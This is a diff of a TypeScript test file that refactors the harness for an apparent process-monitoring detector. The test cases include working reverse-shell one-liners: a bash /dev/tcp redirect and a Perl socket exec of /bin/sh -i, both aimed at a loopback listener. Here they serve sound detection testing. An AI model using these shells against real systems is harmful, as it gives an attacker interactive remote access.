@@ -6,66 +6,26 @@ import { createServer, type AddressInfo, type Server } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { test, type TestContext } from "node:test";
-import { setTimeout as sleep } from "node:timers/promises";
 import type { Evidence } from "../core/action.ts";
-import { PHEROMONES } from "../core/agent.ts";
-import { systemClock } from "../core/clock.ts";
-import { processKey } from "../core/entity.ts";
-import type { SensedEvent } from "../core/event.ts";
-import { seededRandom } from "../core/random.ts";
 import { createImmuneColony } from "../immune/colony.ts";
-import { probeBpfFeatures } from "../kernel/bpf-features.ts";
-import { RecordDecoder } from "../senses/decode.ts";
-import { startKernelSenses, type KernelSenses } from "../senses/kernel-senses.ts";
-import { ProcessTable } from "../senses/process-table.ts";
 import { snapshotProcesses } from "../senses/snapshot.ts";
 import { staticProgram } from "../senses/static-program.fixture.ts";
-import { Field } from "../swarm/field.ts";
-import { Brain } from "./brain.ts";
+import { heaviest, LiveColony, onStage } from "./live-colony.fixture.ts";
 import { PUPPET } from "./puppet.fixture.ts";
 
 const SHELL = "/bin/bash";
 
-function lacks(): string | undefined {
-  if (process.getuid?.() !== 0) return "needs root";
-  const wanted = ["ebpf.ringbuf", "ebpf.tp_btf", "ebpf.cgroup"];
-  const missing = probeBpfFeatures().find(({ name, available }) => wanted.includes(name) && !available);
-  return missing && `needs ${missing.name} (${missing.found})`;
-}
-
-/** The colony at light depth with the kernel's own events, and a remote hand on loopback. */
-class Stage {
+/** The colony at light depth, and a remote hand on loopback. */
+class ProcessStage {
   readonly dir = mkdtempSync(join(tmpdir(), "swarms-process-agents-"));
   readonly puppet: string;
-  private readonly processes = new ProcessTable();
-  private readonly parents = new Map<string, string>();
-  private readonly brain: Brain;
-  private readonly senses: KernelSenses;
+  private readonly colony = new LiveColony(createImmuneColony({ leaseMs: 1000 }), 4 << 20, snapshotProcesses());
   private readonly server: Server;
 
   constructor(puppet: string, server: Server) {
     this.puppet = join(this.dir, "puppet");
     this.server = server;
     copyFileSync(puppet, this.puppet);
-    this.brain = new Brain(createImmuneColony({ leaseMs: 1000 }), {
-      clock: systemClock,
-      random: seededRandom(1),
-      field: new Field({ pheromones: PHEROMONES, seed: 1 }),
-      processes: this.processes,
-      propose: () => undefined,
-      report: () => undefined,
-    });
-    this.processes.seed(snapshotProcesses(), systemClock.wallMs());
-    const decoder = new RecordDecoder();
-    const senses = startKernelSenses({
-      wants: this.brain.wants(),
-      runq: false,
-      ringBytes: 4 << 20,
-      onRecords: (records) => void decoder.decode(records, (event) => this.take(event)),
-      onTrouble: () => undefined,
-    });
-    assert.ok(senses.ok, senses.ok ? "" : senses.says);
-    this.senses = senses.value;
   }
 
   get port(): string {
@@ -73,33 +33,17 @@ class Stage {
   }
 
   /** Runs a command; then evidence of the kind on it and its descendants, once there is some so heavy, or after half a second. */
-  async run(kind: string, least: number, path: string, ...args: string[]): Promise<Evidence[]> {
+  async run(kind: string, least: number, path: string, ...args: string[]): Promise<readonly Evidence[]> {
     const child = spawn(path, args, { stdio: "ignore", timeout: 15_000 });
     await once(child, "exit");
     assert.ok(child.pid !== undefined);
-    for (let tries = 0; ; tries++) {
-      const found = this.told(child.pid).filter((each) => each.kind === kind && each.agent !== "provenance");
-      if (heaviest(found) >= least || tries === 50) return found;
-      await sleep(10);
-    }
+    return this.colony.evidenceOf(child.pid, kind, 50, least);
   }
 
   async close(): Promise<void> {
-    await this.senses.close();
+    await this.colony.close();
     this.server.close();
     rmSync(this.dir, { recursive: true, force: true });
-  }
-
-  private told(pid: number): Evidence[] {
-    const members = new Set([...this.parents.keys()].filter((key) => key.startsWith(`p:${pid}@`)));
-    for (const [child, parent] of this.parents) if (members.has(parent)) members.add(child);
-    return [...members].flatMap((key) => this.brain.evidenceOf(key));
-  }
-
-  private take(event: SensedEvent): void {
-    this.processes.apply(event, systemClock.wallMs());
-    if (event.kind === "fork") this.parents.set(processKey(event.child), processKey(event.process));
-    this.brain.onEvent(event);
   }
 }
 
@@ -115,21 +59,13 @@ async function remoteHand(): Promise<Server> {
   return server;
 }
 
-async function live(t: TestContext, look: (stage: Stage) => Promise<void>): Promise<void> {
-  const reason = lacks();
-  if (reason !== undefined) return t.skip(reason);
-  const puppet = staticProgram(PUPPET);
-  if (puppet === undefined) return t.skip("needs a C compiler with a static libc");
-  const stage = new Stage(puppet, await remoteHand());
-  try {
-    await look(stage);
-  } finally {
-    await stage.close();
-  }
+function live(t: TestContext, look: (stage: ProcessStage) => Promise<void>): Promise<void> {
+  return onStage(t, newStage, look);
 }
 
-function heaviest(evidence: readonly Evidence[]): number {
-  return Math.max(0, ...evidence.map(({ weight }) => weight));
+async function newStage(): Promise<ProcessStage | string> {
+  const puppet = staticProgram(PUPPET);
+  return puppet === undefined ? "needs a C compiler with a static libc" : new ProcessStage(puppet, await remoteHand());
 }
 
 const PYTHON = (port: string): string =>
@@ -142,7 +78,9 @@ const PERL = (port: string): string =>
 open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`;
 
 /** Command, its arguments, and the least weight of what is told of it. */
-const SHELLS: Readonly<Record<string, (stage: Stage) => readonly [least: number, path: string, ...args: string[]]>> = {
+const SHELLS: Readonly<
+  Record<string, (stage: ProcessStage) => readonly [least: number, path: string, ...args: string[]]>
+> = {
   "bash and /dev/tcp": ({ port }) => [0.9, SHELL, "-c", `${SHELL} --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`],
   python: ({ port }) => [0.9, "/usr/bin/python3", "-c", PYTHON(port)],
   perl: ({ port }) => [0.9, "/usr/bin/perl", "-e", PERL(port)],
